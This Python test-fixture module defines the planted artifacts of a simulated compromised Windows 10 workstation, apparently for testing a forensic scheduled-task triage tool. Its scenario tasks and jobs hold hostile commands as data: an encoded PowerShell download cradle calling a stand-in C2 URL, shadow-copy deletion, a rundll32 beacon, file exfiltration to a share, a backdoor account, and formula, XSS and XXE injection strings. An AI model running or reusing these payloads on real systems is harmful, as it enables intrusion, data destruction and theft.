"""What the Windows 10 test machine WS-FIN-042 holds: the single source of truth for planted content.

Tests compare triage's output with the values here (task paths, actions, times), never with
copies of them. Everything is fixed data: no wall clock, no randomness, GUIDs from counters.

Story: WS-FIN-042 (Windows 10 Pro 22H2, time zone W. Europe, CET = UTC+1 for every date used
here) was installed on 2023-11-02. User jsmith (local account) received a Cobalt-Strike-style
beacon on 2024-03-12 that planted several persistence tasks; a domain helpdesk account later
registered a boot-time ransomware task; jsmith also copies finance files to a share every
evening. The disk was acquired on 2024-03-14 09:12:44 UTC.
"""

from __future__ import annotations

import base64
import struct
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path, PureWindowsPath

from test_images.gpp import encrypt_cpassword
from test_images.jobfile import (
    AT_LOGON, AT_SYSTEMSTART, DAILY, MONTHLYDATE, MONTHLYDOW, ON_IDLE, ONCE, STATUS_HAS_NOT_RUN, STATUS_READY,
    WEEKLY, AtJob, JobTrigger, encode_job,
)
from test_images.regf import filetime
from test_images.taskxml import TASK_NAMESPACE, El, el, encode_utf16, render

CORPUS = Path(__file__).resolve().parents[1] / ".." / "shared" / "corpus"
STOCK_TASK_DIR = CORPUS / "AndrewRathbun__DFIRArtifactMuseum/Windows/ScheduledTasks/Win10/APTSimulatorVM"
EVTX_DIR = CORPUS / "Velocidex__velociraptor/artifacts/testdata/files"

HOSTNAME = "WS-FIN-042"
DOMAIN = "fincorp.local"
NETBIOS_DOMAIN = "FINCORP"
USER = "jsmith"
MACHINE_SID = "S-1-5-21-2847163290-1933645801-3375812043"
USER_SID = f"{MACHINE_SID}-1001"
USER_PROFILE = rf"C:\Users\{USER}"
TIME_ZONE = "W. Europe Standard Time"
LOCAL = timezone(timedelta(hours=1), "CET")  # W. Europe standard time; all dates here are outside DST
PRODUCT_NAME = "Windows 10 Pro"
BUILD_NUMBER = "19045"
UBR = 4170
OS_VERSION_TEXT = f"{PRODUCT_NAME} (NT 10.0) {BUILD_NUMBER}.{UBR}"  # as dissect's target.version shows it

TASKS_DIR = "Windows/System32/Tasks"
JOBS_DIR = "Windows/Tasks"


def utc(*fields: int) -> datetime:
    return datetime(*fields, tzinfo=timezone.utc)


INSTALLED = utc(2023, 11, 2, 8, 41, 13)
ACQUIRED = utc(2024, 3, 14, 9, 12, 44)  # the frozen clock of every build tool
LAST_SHUTDOWN = utc(2024, 3, 14, 8, 58, 30)


def local_text(moment: datetime, fraction: bool = False) -> str:
    """Local wall-clock time as Task Scheduler writes it without an offset."""
    text = moment.astimezone(LOCAL).strftime("%Y-%m-%dT%H:%M:%S")
    return text + f".{moment.microsecond * 10:07d}" if fraction else text


# ---------------------------------------------------------------------------------------------
# Files and their times


@dataclass(frozen=True)
class FileTimes:
    """$STANDARD_INFORMATION times, plus the clock when the file was created ($FILE_NAME times)."""

    created: datetime
    modified: datetime
    accessed: datetime
    fn_created: datetime

    @classmethod
    def at(cls, created: datetime, modified: datetime | None = None) -> FileTimes:
        """An untouched file: $FILE_NAME created equals $SI created, accessed equals modified
        (Windows 10 does not update last-access times by default)."""
        modified = modified or created
        return cls(created=created, modified=modified, accessed=modified, fn_created=created)


@dataclass(frozen=True)
class PlantedFile:
    path: str  # relative to the volume root, "/"-separated
    data: bytes
    times: FileTimes


@dataclass(frozen=True)
class PlantedTask:
    """One file under Windows\\System32\\Tasks."""

    name: str  # task path as Windows shows it, e.g. \Microsoft\Windows\Defrag\ScheduledDefrag
    data: bytes  # the file bytes as on disk
    times: FileTimes
    origin: str  # "stock" (verbatim from a real Windows 10), "scenario", or "broken" (must only give a gap)
    purpose: str
    task: El | None = None  # the <Task> element of a scenario task

    @property
    def file_path(self) -> str:
        return TASKS_DIR + "/" + self.name.lstrip("\\").replace("\\", "/")

    @property
    def actions(self) -> tuple[El, ...]:
        return self.task.child("Actions").children if self.task else ()

    @property
    def triggers(self) -> tuple[El, ...]:
        return self.task.child("Triggers").children if self.task else ()


# ---------------------------------------------------------------------------------------------
# Stock tasks: real Windows 10 files (DFIRArtifactMuseum, APTSimulatorVM, MIT licence), verbatim

STOCK_TASKS = (
    r"\Microsoft\Windows\Application Experience\Microsoft Compatibility Appraiser",
    r"\Microsoft\Windows\Application Experience\ProgramDataUpdater",
    r"\Microsoft\Windows\Application Experience\StartupAppTask",
    r"\Microsoft\Windows\CertificateServicesClient\UserTask",
    r"\Microsoft\Windows\Customer Experience Improvement Program\Consolidator",
    r"\Microsoft\Windows\Defrag\ScheduledDefrag",
    r"\Microsoft\Windows\Diagnosis\Scheduled",
    r"\Microsoft\Windows\DiskCleanup\SilentCleanup",
    r"\Microsoft\Windows\Maintenance\WinSAT",
    r"\Microsoft\Windows\Registry\RegIdleBackup",
    r"\Microsoft\Windows\SystemRestore\SR",
    r"\Microsoft\Windows\Time Synchronization\SynchronizeTime",
    r"\Microsoft\Windows\Time Zone\SynchronizeTimeZone",
    r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan",
    r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan Static Task",
    r"\Microsoft\Windows\UpdateOrchestrator\USO_UxBroker",
    r"\Microsoft\Windows\Windows Defender\Windows Defender Cache Maintenance",
    r"\Microsoft\Windows\Windows Defender\Windows Defender Cleanup",
    r"\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan",
    r"\Microsoft\Windows\Windows Defender\Windows Defender Verification",
    r"\Microsoft\Windows\Windows Error Reporting\QueueReporting",
    r"\Microsoft\Windows\WindowsUpdate\Scheduled Start",
    r"\MicrosoftEdgeUpdateTaskMachineCore",
    r"\MicrosoftEdgeUpdateTaskMachineUA",
)
SERVICING_UPDATE = utc(2024, 2, 14, 3, 12, 9)  # February cumulative update rewrote these
UPDATED_BY_SERVICING = ("UpdateOrchestrator", "Windows Defender")

# InprocServer32 of every COM handler a planted task names (stock values as on Windows 10).
COM_HIJACK_CLSID = "{C53B4E3A-7E1D-4F62-9A0B-3C2D1E0F5A6B}"
COM_HIJACK_DLL = rf"{USER_PROFILE}\AppData\Roaming\Microsoft\Themes\thmsync.dll"
COM_SERVERS = {
    "{58FB76B9-AC85-4E55-AC04-427593B1D060}": r"%SystemRoot%\system32\dimsjob.dll",
    "{A9A33436-678B-4C9C-A211-7CC38785E79D}": r"%SystemRoot%\system32\WinSATAPI.dll",
    "{C1F85EF8-BCC2-4606-BB39-70C523715EB3}": r"%SystemRoot%\system32\sdiagschd.dll",
    "{CA767AA8-9157-4604-B64B-40747123D5F2}": r"%SystemRoot%\System32\regidle.dll",
    COM_HIJACK_CLSID: COM_HIJACK_DLL,
}


def stock_tasks() -> list[PlantedTask]:
    tasks = []
    for index, name in enumerate(STOCK_TASKS):
        source = STOCK_TASK_DIR / name.lstrip("\\").replace("\\", "/")
        created = INSTALLED + timedelta(minutes=2, seconds=3 * index, microseconds=137_911 * index % 1_000_000)
        updated = any(f"\\{folder}\\" in name for folder in UPDATED_BY_SERVICING)
        tasks.append(PlantedTask(
            name=name,
            data=source.read_bytes(),
            times=FileTimes.at(created, SERVICING_UPDATE if updated else created),
            origin="stock",
            purpose="benign Windows 10 task, verbatim",
        ))
    return tasks


# ---------------------------------------------------------------------------------------------
# Scenario tasks, written the way schtasks.exe / Register-ScheduledTask write them

ENABLED = el("Enabled", "true")


def schtasks_settings(hidden: bool = False) -> El:
    """The <Settings> block schtasks.exe /create writes (order and defaults as on Windows 10)."""
    return el(
        "Settings",
        el("MultipleInstancesPolicy", "IgnoreNew"),
        el("DisallowStartIfOnBatteries", "true"),
        el("StopIfGoingOnBatteries", "true"),
        el("AllowHardTerminate", "true"),
        el("StartWhenAvailable", "false"),
        el("RunOnlyIfNetworkAvailable", "false"),
        el("IdleSettings", el("Duration", "PT10M"), el("WaitTimeout", "PT1H"),
           el("StopOnIdleEnd", "true"), el("RestartOnIdle", "false")),
        el("AllowStartOnDemand", "true"),
        el("Enabled", "true"),
        el("Hidden", "true" if hidden else "false"),
        el("RunOnlyIfIdle", "false"),
        el("WakeToRun", "false"),
        el("ExecutionTimeLimit", "PT72H"),
        el("Priority", "7"),
    )


def principal(user_id: str, run_level: str = "LeastPrivilege", logon_type: str | None = "InteractiveToken",
              principal_id: str = "Author") -> El:
    return el("Principals", el("Principal", el("UserId", user_id),
                               el("LogonType", logon_type) if logon_type else None,
                               el("RunLevel", run_level), id=principal_id))


def exec_action(command: str, arguments: str | None = None, working_directory: str | None = None) -> El:
    return el("Exec", el("Command", command), el("Arguments", arguments) if arguments else None,
              el("WorkingDirectory", working_directory) if working_directory else None)


def task_element(registration: El, triggers: tuple[El, ...], settings: El, actions: tuple[El, ...],
                 principals: El, context: str = "Author", version: str = "1.2", order: str = "schtasks") -> El:
    """<Task> with children in the order its creator writes them: schtasks.exe puts Principals last,
    Register-ScheduledTask ("powershell") after Triggers, Windows' own tasks ("stock") after RegistrationInfo."""
    parts = {
        "RegistrationInfo": registration,
        "Triggers": el("Triggers", *triggers),
        "Settings": settings,
        "Actions": el("Actions", *actions, Context=context),
        "Principals": principals,
    }
    orders = {
        "schtasks": ("RegistrationInfo", "Triggers", "Settings", "Actions", "Principals"),
        "powershell": ("RegistrationInfo", "Triggers", "Principals", "Settings", "Actions"),
        "stock": ("RegistrationInfo", "Principals", "Settings", "Triggers", "Actions"),
    }
    return el("Task", *(parts[p] for p in orders[order]), version=version, xmlns=TASK_NAMESPACE)


def registration_info(uri: str, date: str | None = None, author: str | None = None,
                      description: str | None = None, source: str | None = None) -> El:
    return el("RegistrationInfo", el("Date", date) if date else None, el("Source", source) if source else None,
              el("Author", author) if author else None, el("Description", description) if description else None,
              el("URI", uri))


USER_AUTHOR = rf"{HOSTNAME}\{USER}"
C2_URL = "http://203.0.113.47:8080/news.php"
DOWNLOAD_CRADLE = (
    "$wc=New-Object System.Net.WebClient;"
    "$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36');"
    "$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;"
    "$wc.Proxy.Credentials=[System.Net.CredentialCache]::DefaultNetworkCredentials;"
    f"IEX $wc.DownloadString('{C2_URL}')"
)
ENCODED_CRADLE = base64.b64encode(DOWNLOAD_CRADLE.encode("utf-16-le")).decode("ascii")
EXFIL_SHARE = r"\\10.1.2.3\drop"

BEACON_TASK = r"\MicrosoftEdgeUpdateTaskMachineQA"
RANSOM_TASK = r"\SysHealthMonitor"
ENCODED_PS_TASK = r"\Microsoft\Windows\UpdateOrchestrator\USO_Health"
INSIDER_TASK = r"\FinanceBackup"
DOTTED_TASK = r"\Update.Service"
TWO_EXEC_TASK = r"\Microsoft\Windows\WindowsBackup\ConfigNotification"
COM_TASK = r"\Microsoft\Windows\Shell\ThemesSyncTask"
EMAIL_TASK = r"\Finance Month-End Report"
MESSAGE_TASK = r"\Backup Reminder"
FORMULA_TASK = r"\@SUM(1+1)"
SCRIPT_TASK = r"\Printer Health Report"
TRUNCATED_TASK = r"\Microsoft\Windows\Maintenance\WinUpdateCheck"
EXTERNAL_ENTITY_TASK = r"\Microsoft\Windows\Maintenance\DiagTrackSync"

TIMESTOMPED_TASK = BEACON_TASK  # $SI created set back to install day; $FILE_NAME keeps the real creation
DATE_AFTER_CREATION_TASK = INSIDER_TASK  # RegistrationInfo/Date is later than the file's creation
FORMULA_AUTHOR = '=HYPERLINK("http://203.0.113.9/x?c="&A1,"details")'
FORMULA_DESCRIPTION = "=cmd|' /C calc'!A0"
SCRIPT_DESCRIPTION = "<script>alert(1)</script> Checks printer queues every morning."
EVENT_SUBSCRIPTION = (
    '<QueryList><Query Id="0" Path="Security"><Select Path="Security">'
    "*[System[Provider[@Name='Microsoft-Windows-Security-Auditing'] and EventID=4624]]"
    " and *[EventData[Data[@Name='LogonType']='10']]</Select></Query></QueryList>"
)
WNF_STATE_NAME = "7508BCA3380C960C"


def _months() -> El:
    return el("Months", *(el(m) for m in ("January", "February", "March", "April", "May", "June", "July",
                                          "August", "September", "October", "November", "December")))


def scenario_tasks() -> list[PlantedTask]:
    def planted(name: str, created: datetime, purpose: str, task: El, times: FileTimes | None = None) -> PlantedTask:
        return PlantedTask(name=name, data=render(task), times=times or FileTimes.at(created),
                           origin="scenario", purpose=purpose, task=task)

    beacon_created = utc(2024, 3, 12, 14, 3, 27, 318442)
    stomped_to = INSTALLED + timedelta(minutes=2, seconds=49)  # whole seconds, as timestomping tools write
    tasks = [
        planted(
            BEACON_TASK, beacon_created, "Cobalt Strike-style beacon via rundll32, created with schtasks; timestomped",
            task_element(
                registration_info(BEACON_TASK, local_text(beacon_created), USER_AUTHOR),
                (el("LogonTrigger", el("StartBoundary", local_text(utc(2024, 3, 12, 14, 3))), ENABLED),),
                schtasks_settings(),
                (exec_action("rundll32.exe", r"C:\Users\Public\Libraries\msedge_elf.dll,StartW"),),
                principal(USER_AUTHOR),
            ),
            times=FileTimes(created=stomped_to, modified=stomped_to, accessed=stomped_to, fn_created=beacon_created),
        ),
    ]

    ransom_created = utc(2024, 3, 13, 1, 17, 44, 512133)
    tasks.append(planted(
        RANSOM_TASK, ransom_created, "ransomware: boot trigger, SYSTEM, highest; deletes shadow copies then encrypts",
        task_element(
            registration_info(RANSOM_TASK, ransom_created.strftime("%Y-%m-%dT%H:%M:%S.%f") + "7Z",
                              rf"{NETBIOS_DOMAIN}\adm-helpdesk"),
            (el("BootTrigger", ENABLED, el("Delay", "PT2M")),),
            schtasks_settings(),
            (exec_action("cmd.exe", r"/c vssadmin.exe delete shadows /all /quiet & bcdedit /set {default} "
                                    r"recoveryenabled no"),
             exec_action(r"C:\ProgramData\svc\locker.exe", r"--encrypt C:\ --note README_RESTORE.txt",
                         r"C:\ProgramData\svc")),
            principal("S-1-5-18", run_level="HighestAvailable", logon_type=None),
        ),
    ))

    encoded_created = utc(2024, 3, 12, 14, 20, 11, 45672)
    tasks.append(planted(
        ENCODED_PS_TASK, encoded_created, "hidden encoded PowerShell download cradle every 30 minutes (Register-ScheduledTask)",
        task_element(
            registration_info(ENCODED_PS_TASK, local_text(encoded_created, fraction=True), USER_AUTHOR),
            (el("TimeTrigger",
                el("Repetition", el("Interval", "PT30M"), el("StopAtDurationEnd", "false")),
                el("StartBoundary", "2024-03-12T15:30:00+01:00"), ENABLED),),
            schtasks_settings(hidden=True),
            (exec_action(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                         f"-NoP -W Hidden -EncodedCommand {ENCODED_CRADLE}"),),
            principal(USER_SID, logon_type="InteractiveToken"),
            version="1.3", order="powershell",
        ),
    ))

    insider_created = utc(2024, 3, 11, 16, 47, 5)
    tasks.append(planted(
        INSIDER_TASK, insider_created, "insider copies the Finance folder to a share every evening; Date after creation",
        task_element(
            registration_info(INSIDER_TASK, local_text(utc(2024, 3, 13, 8, 0, 0)), USER_AUTHOR),
            (el("CalendarTrigger", el("StartBoundary", local_text(utc(2024, 3, 11, 18, 30))), ENABLED,
                el("ScheduleByDay", el("DaysInterval", "1"))),),
            schtasks_settings(),
            (exec_action(r"C:\Windows\System32\Robocopy.exe",
                         rf'"{USER_PROFILE}\Documents\Finance" "{EXFIL_SHARE}\{USER}" /E /R:0 /W:0 /NP /NFL /NDL'),),
            principal(USER_AUTHOR),
        ),
    ))

    dotted_created = utc(2024, 3, 12, 14, 25, 40)
    tasks.append(planted(
        DOTTED_TASK, dotted_created, "task name with dots (tools that treat '.Service' as an extension miss it)",
        task_element(
            registration_info(DOTTED_TASK, local_text(dotted_created), USER_AUTHOR),
            (el("TimeTrigger",
                el("Repetition", el("Interval", "PT1H"), el("StopAtDurationEnd", "false")),
                el("StartBoundary", local_text(utc(2024, 3, 12, 14, 30))), ENABLED),
             el("RegistrationTrigger", ENABLED, el("Delay", "PT30S"))),
            schtasks_settings(),
            (exec_action(rf"{USER_PROFILE}\AppData\Roaming\Update.Service\Update.Service.exe", "--silent"),),
            principal(USER_AUTHOR),
        ),
    ))

    two_exec_created = utc(2024, 3, 12, 14, 31, 2)
    tasks.append(planted(
        TWO_EXEC_TASK, two_exec_created, "masquerading Windows task: benign first Exec, malicious second Exec",
        task_element(
            registration_info(TWO_EXEC_TASK, local_text(two_exec_created), "Microsoft Corporation",
                              "Windows Backup monitor notification", r"$(@%systemroot%\system32\sdclt.exe,-2000)"),
            (el("CalendarTrigger", el("StartBoundary", local_text(utc(2024, 3, 14, 8, 0))), ENABLED,
                el("ScheduleByWeek", el("DaysOfWeek", el("Monday"), el("Thursday")), el("WeeksInterval", "1"))),
             el("EventTrigger", ENABLED, el("Subscription", EVENT_SUBSCRIPTION),
                el("ValueQueries",
                   el("Value", "Event/EventData/Data[@Name='TargetUserName']", name="TargetUserName"),
                   el("Value", "Event/EventData/Data[@Name='IpAddress']", name="IpAddress"))),
             el("SessionStateChangeTrigger", ENABLED, el("StateChange", "SessionUnlock"))),
            el("Settings", el("DisallowStartIfOnBatteries", "false"), el("StopIfGoingOnBatteries", "false"),
               el("MultipleInstancesPolicy", "Parallel"), el("StartWhenAvailable", "true"),
               el("UseUnifiedSchedulingEngine", "true")),
            (exec_action(r"%windir%\System32\sdclt.exe", "/CONFIGNOTIFICATION"),
             exec_action(r"C:\Users\Public\Libraries\svchost.exe", "-k netsvc -u $(TargetUserName) -i $(IpAddress)")),
            principal("S-1-5-18", run_level="HighestAvailable", logon_type=None, principal_id="LocalSystem"),
            context="LocalSystem", order="stock",
        ),
    ))

    com_created = utc(2024, 3, 12, 14, 36, 55)
    tasks.append(planted(
        COM_TASK, com_created, "COM handler whose CLSID resolves to a DLL in the user's profile",
        task_element(
            registration_info(COM_TASK, local_text(com_created), USER_AUTHOR, "Synchronizes theme settings."),
            (el("LogonTrigger", ENABLED, el("UserId", USER_AUTHOR)),
             el("WnfStateChangeTrigger", ENABLED, el("StateName", WNF_STATE_NAME), el("Data", "01"),
                el("DataOffset", "0"))),
            schtasks_settings(),
            (el("ComHandler", el("ClassId", COM_HIJACK_CLSID), el("Data", "-sync")),),
            principal(USER_AUTHOR),
        ),
    ))

    email_created = utc(2023, 12, 4, 10, 2, 11)
    tasks.append(planted(
        EMAIL_TASK, email_created, "benign legacy SendEmail action on the last Friday of every month",
        task_element(
            registration_info(EMAIL_TASK, local_text(email_created), rf"{NETBIOS_DOMAIN}\it-admin",
                              "Mails the finance team when the month-end report is ready."),
            (el("CalendarTrigger", el("StartBoundary", local_text(utc(2023, 12, 29, 16, 0))), ENABLED,
                el("ScheduleByMonthDayOfWeek", el("Weeks", el("Week", "Last")), el("DaysOfWeek", el("Friday")),
                   _months())),),
            schtasks_settings(),
            (el("SendEmail", el("Server", f"smtp.{DOMAIN}"), el("Subject", "Month-end report"),
                el("To", "finance-team@fincorp.example"), el("From", "reports@fincorp.example"),
                el("Body", r"The month-end report is ready on \\fs01\finance\reports.")),),
            principal(USER_AUTHOR),
        ),
    ))

    message_created = utc(2023, 12, 4, 10, 5, 40)
    tasks.append(planted(
        MESSAGE_TASK, message_created, "benign legacy ShowMessage action on idle and on the 1st and 15th",
        task_element(
            registration_info(MESSAGE_TASK, local_text(message_created), rf"{NETBIOS_DOMAIN}\it-admin"),
            (el("IdleTrigger", ENABLED),
             el("CalendarTrigger", el("StartBoundary", local_text(utc(2023, 12, 15, 11, 0))), ENABLED,
                el("ScheduleByMonth", el("DaysOfMonth", el("Day", "1"), el("Day", "15")), _months()))),
            schtasks_settings(),
            (el("ShowMessage", el("Title", "Backup reminder"),
                el("Body", r"Please back up your Documents folder to \\fs01\home.")),),
            principal(USER_AUTHOR),
        ),
    ))

    formula_created = utc(2024, 3, 12, 14, 44, 18)
    tasks.append(planted(
        FORMULA_TASK, formula_created, "spreadsheet formulas in name, Author and Description (CSV export must neutralise)",
        task_element(
            registration_info(FORMULA_TASK, local_text(formula_created), FORMULA_AUTHOR, FORMULA_DESCRIPTION),
            (el("TimeTrigger", el("StartBoundary", "2024-03-14T06:00:00Z"), ENABLED),),
            schtasks_settings(),
            (exec_action("cmd.exe", "/c echo maintenance"),),
            principal(USER_AUTHOR),
        ),
    ))

    script_created = utc(2024, 1, 8, 9, 15, 0)
    tasks.append(planted(
        SCRIPT_TASK, script_created, "HTML in the Description (HTML export must escape)",
        task_element(
            registration_info(SCRIPT_TASK, local_text(script_created), USER_AUTHOR, SCRIPT_DESCRIPTION),
            (el("CalendarTrigger", el("StartBoundary", local_text(utc(2024, 1, 9, 6, 45))), ENABLED,
                el("ScheduleByDay", el("DaysInterval", "1"))),),
            schtasks_settings(),
            (exec_action(r"C:\Windows\System32\cscript.exe", r"//B //Nologo C:\ProgramData\PrinterHealth\check.vbs"),),
            principal(USER_AUTHOR),
        ),
    ))

    truncated_created = utc(2024, 3, 12, 14, 40, 0)
    full = render(task_element(
        registration_info(TRUNCATED_TASK, local_text(truncated_created), USER_AUTHOR),
        (el("BootTrigger", ENABLED),), schtasks_settings(), (exec_action(r"C:\ProgramData\svc\upd.exe"),),
        principal("S-1-5-18", logon_type=None),
    ))
    tasks.append(PlantedTask(TRUNCATED_TASK, full[: len(full) // 2], FileTimes.at(truncated_created), "broken",
                             "truncated XML (write interrupted): must give one gap"))

    entity_created = utc(2024, 3, 12, 14, 41, 30)
    entity_text = "\r\n".join([
        '<?xml version="1.0" encoding="UTF-16"?>',
        '<!DOCTYPE Task [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        f'<Task version="1.2" xmlns="{TASK_NAMESPACE}">',
        "  <RegistrationInfo>",
        f"    <Author>{USER_AUTHOR}</Author>",
        "    <Description>&xxe;</Description>",
        f"    <URI>{EXTERNAL_ENTITY_TASK}</URI>",
        "  </RegistrationInfo>",
        "  <Actions Context=\"Author\">",
        "    <Exec>",
        "      <Command>cmd.exe</Command>",
        "    </Exec>",
        "  </Actions>",
        "</Task>",
    ])
    tasks.append(PlantedTask(EXTERNAL_ENTITY_TASK, encode_utf16(entity_text), FileTimes.at(entity_created), "broken",
                             "DOCTYPE with an external entity: must not be resolved, must give one gap"))
    return tasks


def all_tasks() -> list[PlantedTask]:
    return sorted(stock_tasks() + scenario_tasks(), key=lambda t: t.name.lower())


# ---------------------------------------------------------------------------------------------
# Legacy at.exe jobs (Windows\Tasks\At<n>.job) and the Task Scheduler 1.0 log


@dataclass(frozen=True)
class PlantedJob:
    name: str  # file name, e.g. At1.job
    job: AtJob
    times: FileTimes
    log: tuple[tuple[str, datetime, int | None], ...] = ()  # SchedLgU.txt: (Started|Finished, local time, exit)

    @property
    def file_path(self) -> str:
        return f"{JOBS_DIR}/{self.name}"


JOB_UUID_SEED = 0x4A0B0000_0000_4000_8000_000000000000


def _local(*fields: int) -> datetime:
    return datetime(*fields)  # naive: .job files hold local wall-clock times


def at_jobs() -> list[PlantedJob]:
    """One job per MS-TSCH trigger type, At1 (ONCE) to At8 (AT_LOGON)."""
    author = USER_AUTHOR
    specs = [
        (ONCE, r"C:\Windows\System32\cmd.exe", r"/c C:\ProgramData\svc\stage.bat", JobTrigger(ONCE, _local(2024, 3, 13, 2, 0)),
         _local(2024, 3, 13, 2, 0, 0), 0, STATUS_READY, 0x0A00),
        (DAILY, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         r"-nop -w hidden -file C:\ProgramData\svc\beacon.ps1",
         JobTrigger(DAILY, _local(2024, 3, 12, 8, 30), type_specific=(1, 0, 0)), _local(2024, 3, 14, 8, 30, 0), 0,
         STATUS_READY, 0x0A00),
        (WEEKLY, r"C:\Users\Public\Libraries\sync.exe", "",
         JobTrigger(WEEKLY, _local(2024, 3, 11, 12, 0), type_specific=(1, 0x02 | 0x08 | 0x20, 0)),
         _local(2024, 3, 13, 12, 0, 1), 1, STATUS_READY, 0x0A00),
        (MONTHLYDATE, r"C:\Windows\System32\net.exe", r"user support_tmp Winter2024! /add",
         JobTrigger(MONTHLYDATE, _local(2024, 3, 12, 23, 0), end=_local(2024, 12, 31),
                    type_specific=(0x4001, 0, 0x0FFF)), None, 0, STATUS_HAS_NOT_RUN, 0x0A00),
        (MONTHLYDOW, r"C:\Windows\System32\cmd.exe",
         rf"/c copy {USER_PROFILE}\Documents\Finance\*.xlsx {EXFIL_SHARE}" + "\\",
         JobTrigger(MONTHLYDOW, _local(2024, 3, 12, 19, 0), type_specific=(2, 0x04, 0x0FFF)), None, 0,
         STATUS_HAS_NOT_RUN, 0x0A00),
        (ON_IDLE, r"C:\ProgramData\svc\miner.exe", "--idle --threads 2", JobTrigger(ON_IDLE, _local(2024, 3, 12, 15, 50)),
         _local(2024, 3, 13, 22, 14, 9), 2, STATUS_READY, 0x0601),
        (AT_SYSTEMSTART, r"C:\ProgramData\svc\locker.exe", "--resume", JobTrigger(AT_SYSTEMSTART, _local(2024, 3, 13, 2, 20)),
         None, 0, STATUS_HAS_NOT_RUN, 0x0A00),
        (AT_LOGON, r"C:\Windows\System32\wscript.exe", rf"//B {USER_PROFILE}\AppData\Roaming\Microsoft\Windows\upd.vbs",
         JobTrigger(AT_LOGON, _local(2024, 3, 12, 15, 55)), _local(2024, 3, 14, 8, 1, 44), 0, STATUS_READY, 0x0A00),
    ]
    jobs = []
    for number, (kind, app, params, trigger, last_run, exit_code, status, version) in enumerate(specs, start=1):
        created = utc(2024, 3, 12, 14, 50) + timedelta(minutes=number)
        modified = last_run.replace(tzinfo=LOCAL) if last_run else created
        log: tuple = ()
        if last_run:
            log = (("Started", last_run, None), ("Finished", last_run + timedelta(seconds=3), exit_code))
        jobs.append(PlantedJob(
            name=f"At{number}.job",
            job=AtJob(
                job_uuid=uuid.UUID(int=JOB_UUID_SEED + number), application=app, parameters=params,
                working_directory="" if kind != ON_IDLE else r"C:\ProgramData\svc", author=author,
                comment="Created by NetScheduleJobAdd.", triggers=(trigger,), last_run=last_run,
                product_version=version, exit_code=exit_code, status=status,
                flags=0x200 if kind == AT_LOGON else 0,
            ),
            times=FileTimes.at(created, max(created, modified)),
            log=log,
        ))
    return jobs


def _log_time(moment: datetime) -> str:
    return f"{moment.month}/{moment.day}/{moment.year} {moment.strftime('%I:%M:%S %p').lstrip('0')}"


def schedlgu_text(jobs: list[PlantedJob]) -> str:
    """SchedLgU.txt as Task Scheduler 1.0 writes it (US date format, 4-space indents, CRLF)."""
    lines = ['"Task Scheduler Service"', "10.0.19041.1 (WinBuild.160101.0800)",
             '"Task Scheduler Service"', f"    Started at {_log_time(_local(2024, 3, 11, 8, 2, 15))}"]
    events = sorted((moment, status, exit_code, job) for job in jobs for status, moment, exit_code in job.log)
    for moment, status, exit_code, job in events:
        lines.append(f'"{job.name}" ({PureWindowsPath(job.job.application).name}) ')
        lines.append(f"    {status} {_log_time(moment)}")
        if status == "Finished":
            lines.append(f"    Result: The task completed with an exit code of ({exit_code:x}).")
    lines.append("[ ***** Most recent entry is above this line ***** ]")
    return "\r\n".join(lines) + "\r\n"


# ---------------------------------------------------------------------------------------------
# Group Policy Preferences scheduled tasks (cached on the client in the GP DataStore)

GPO_GUID = "{3F2A5C1E-8B7D-4E6F-9A0B-1C2D3E4F5A6B}"
GPP_PATH = (f"Windows/System32/GroupPolicy/DataStore/0/sysvol/{DOMAIN}/Policies/{GPO_GUID}"
            "/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml")
GPP_ACCOUNTS = {  # task name -> (runAs, password that the cpassword hides)
    "Inventory Agent": (rf"{NETBIOS_DOMAIN}\svc_inventory", "Inv3ntory!2024"),
    "Deploy Helpdesk Tool": (rf"{NETBIOS_DOMAIN}\adm-helpdesk", "Helpd3sk#Fin"),
}


def gpp_scheduled_tasks() -> bytes:
    def entry(kind: str, clsid: str, name: str, uid: str, trigger: El, command: str, arguments: str) -> El:
        run_as, password = GPP_ACCOUNTS[name]
        task = el(
            "Task",
            el("RegistrationInfo", el("Author", rf"{NETBIOS_DOMAIN}\it-admin"), el("Description", name)),
            el("Principals", el("Principal", el("UserId", run_as), el("LogonType", "Password"),
                                el("RunLevel", "HighestAvailable"), id="Author")),
            el("Settings", el("IdleSettings", el("Duration", "PT10M"), el("WaitTimeout", "PT1H"),
                              el("StopOnIdleEnd", "true"), el("RestartOnIdle", "false")),
               el("MultipleInstancesPolicy", "IgnoreNew"), el("AllowStartOnDemand", "true"), el("Enabled", "true"),
               el("Hidden", "false"), el("ExecutionTimeLimit", "P3D"), el("Priority", "7")),
            el("Triggers", trigger),
            el("Actions", exec_action(command, arguments), Context="Author"),
            version="1.3",
        )
        properties = el("Properties", task, action="C", name=name, runAs=run_as, logonType="Password",
                        cpassword=encrypt_cpassword(password))
        return el(kind, properties, clsid=clsid, name=name, image="0", changed="2024-02-20 10:11:12", uid=uid,
                  userContext="0", removePolicy="0")

    root = el(
        "ScheduledTasks",
        entry("TaskV2", "{D8896631-B747-47a7-84A6-C155337F3BC8}", "Inventory Agent",
              "{6B8C1F20-3A4D-4E5F-8071-92A3B4C5D6E7}",
              el("CalendarTrigger", el("StartBoundary", "2024-02-21T07:00:00"), ENABLED,
                 el("ScheduleByDay", el("DaysInterval", "1"))),
              rf"\\{DOMAIN}\NETLOGON\inventory\agent.exe", "/collect /quiet"),
        entry("ImmediateTaskV2", "{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}", "Deploy Helpdesk Tool",
              "{7C9D2031-4B5E-4F60-9182-A3B4C5D6E7F8}",
              el("TimeTrigger", el("StartBoundary", "%LocalTimeXmlEx%"), el("EndBoundary", "%LocalTimeXmlEx%"),
                 ENABLED),
              "cmd.exe", rf"/c copy \\{DOMAIN}\NETLOGON\tools\hdtool.exe C:\ProgramData\hdtool.exe"),
        clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}",
    )
    # GPMC writes UTF-8 without a BOM
    return render(root)[2:].decode("utf-16-le").replace('encoding="UTF-16"', 'encoding="utf-8"').encode("utf-8")


# ---------------------------------------------------------------------------------------------
